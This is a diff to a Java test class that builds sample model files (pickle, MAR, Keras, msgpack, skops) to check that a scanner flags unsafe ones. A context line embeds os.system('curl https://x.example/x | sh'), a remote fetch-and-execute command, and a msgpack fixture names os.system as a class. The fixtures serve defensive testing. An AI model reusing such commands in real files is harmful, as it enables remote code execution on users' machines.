@@ -33,6 +33,7 @@ final class PickleTrials {
         trials.chains();
         trials.streams();
         trials.containers();
+        trials.promises();
         trials.honest();
         trials.honestModels();
         return trials.all;
@@ -369,6 +370,54 @@ final class PickleTrials {
                                         "h.py",
                                         utf8(
                                                 "import os\nos.system('curl https://x.example/x | sh')\n")))));
+    }
+
+    /// Archives that lack what their framework reads first, and texts that ask to be rebuilt.
+    private void promises() {
+        byte[] handler = utf8("x = 1\n");
+        byte[] manifest = utf8("{\"model\":{\"modelName\":\"m\",\"handler\":\"missing.py\"}}");
+        all.add(
+                Trial.notClean(
+                        "promise/mar-without-handler",
+                        "m.mar",
+                        Scans.zip(Map.of("MAR-INF/MANIFEST.json", manifest, "h.py", handler))));
+        all.add(
+                Trial.notClean(
+                        "promise/mar-without-manifest",
+                        "m.mar",
+                        Scans.zip(Map.of("h.py", handler))));
+        all.add(
+                Trial.notClean(
+                        "promise/keras-without-configuration",
+                        "m.keras",
+                        Scans.zip(Map.of("metadata.json", utf8("{}")))));
+        all.add(
+                Trial.bad(
+                        "promise/msgpack-class",
+                        "m.msgpack",
+                        joined(
+                                new byte[] {(byte) 0x81, (byte) 0xa9},
+                                utf8("__class__"),
+                                new byte[] {(byte) 0xa9},
+                                utf8("os.system"))));
+        all.add(
+                Trial.bad(
+                        "promise/skops-card",
+                        "m.skops",
+                        Scans.zip(
+                                Map.of(
+                                        "schema.json", utf8("{\"version\":\"1.0\"}"),
+                                        "README.md", utf8("Use joblib.load() when that fails.")))));
+        benign("signal-number", call("signal:Signals", number(15)));
+        benign("socket-family", call("socket:AddressFamily", number(2)));
+        benign(
+                "out-of-band",
+                call(
+                        "numpy._core.numeric:_frombuffer",
+                        pickle -> pickle.op(0x97),
+                        text("f4"),
+                        tuple(number(1)),
+                        text("C")));
     }
 
     private void honest() {
